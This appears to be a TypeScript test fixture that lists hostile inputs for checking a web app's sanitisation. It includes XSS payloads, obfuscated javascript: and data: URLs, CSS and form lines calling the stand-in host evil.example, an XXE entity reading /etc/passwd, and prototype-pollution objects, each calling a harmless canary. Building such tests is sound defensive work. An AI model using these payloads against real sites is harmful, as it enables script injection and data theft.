/**
 * What an enemy writes into an issue. Every script calls `canary(place)`: a page that defines it knows what ran; every
 * address leads to `EVIL`: whoever watches requests knows what was asked for.
 */

/** A host that nobody has (RFC 2606). */
export const EVIL = 'evil.example';
export const FILM = 'aqz-KE-bpKQ';

/** For places where words are expected. */
export const TEXTS: readonly string[] = [
  '<script>canary("script")</script>',
  '<img src=x onerror=canary("img")>',
  '"><svg onload=canary("svg")>',
  "' onfocus='canary(\"attribute\")' autofocus='",
  '" style="background:url(https://evil.example/style)" x="',
  'red;background:url(https://evil.example/css);--e-accent:url(https://evil.example/token)',
  '</style><style>@import "https://evil.example/import";</style>',
  '</textarea></title></script><script>canary("closed")</script>',
  '&lt;img src=x onerror=canary(&quot;entity&quot;)&gt;',
  '<iframe srcdoc="<script>parent.canary(\'srcdoc\')</script>"></iframe>',
  '<a href="javascript:canary(\'link\')">x</a>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><button>x</button></form><link rel="stylesheet" href="https://evil.example/x.css">',
  '<math><mtext><table><mglyph><style><img src=x onerror=canary("mutation")>',
  '<template shadowrootmode="open"><script>canary("shadow")</script></template>',
  '<!--?lit$123456789$--><?lit$123456789$?>${canary("template")}{{canary("braces")}}',
  'javascript:canary("text")',
  '\u202e\u2066<b>\u0000\ufeff\ud800 canary("controls")',
  '<v>]]><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  '__proto__',
  'constructor',
  '#article=<img src=x onerror=canary("fragment")>',
];

/** For places where an address is expected. Each is refused, or leads where a reader may be led. */
export const LINKS: readonly string[] = [
  'javascript:canary("plain")',
  'JaVaScRiPt:canary("case")',
  ' \tjavascript:canary("space")',
  'java\nscript:canary("line")',
  'java\tscr\ript:canary("tab")',
  '\u0001javascript:canary("control")',
  '\u00a0javascript:canary("nbsp")',
  '\u0000java\u0000script:canary("nul")',
  'javascript&colon;canary("entity")',
  '&#106;avascript:canary("number")',
  'javascript%3Acanary("percent")',
  'javascript://portal.gov.vn/%0Acanary("comment")',
  'javascript:/*https://*/canary("slash")//https://x.vn',
  'data:text/html,<script>parent.canary("data")</script>',
  'DATA:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="canary(1)"/>',
  'vbscript:canary("vb")',
  'VB\nScript:canary("vb line")',
  'view-source:javascript:canary("view")',
  'feed:javascript:canary("feed")',
  'blob:https://evil.example/0000',
  'filesystem:https://evil.example/x',
  'file:///etc/passwd',
  'about:srcdoc',
  'intent://evil.example/#Intent;scheme=https;end',
  'ms-word:ofe|u|https://evil.example/x.docm',
  'ws://evil.example/',
  'ftp://evil.example/',
  '#article=javascript:canary("fragment")',
  '#page=1"><img src=x onerror=canary("page")>',
  '?src=javascript:canary("query")',
];

/** Values of the wrong kind, for every place; `strings` is what a template of Lit looks like. */
export const VALUES: readonly unknown[] = [
  null,
  true,
  -1,
  1e308,
  Number.MAX_SAFE_INTEGER,
  [],
  {},
  [[[[[[[['<img src=x onerror=canary("list")>']]]]]]]],
  {
    _$litType$: 1,
    strings: ['<img src=x onerror=canary("lit")>'],
    values: [],
    toString: 'x',
    valueOf: null,
  },
  { vi: '<script>canary("language")</script>', href: 'javascript:canary("object")' },
  JSON.parse('{"__proto__":{"polluted":true,"href":"javascript:canary(\\"proto\\")"}}'),
  JSON.parse('{"constructor":{"prototype":{"polluted":true}}}'),
];
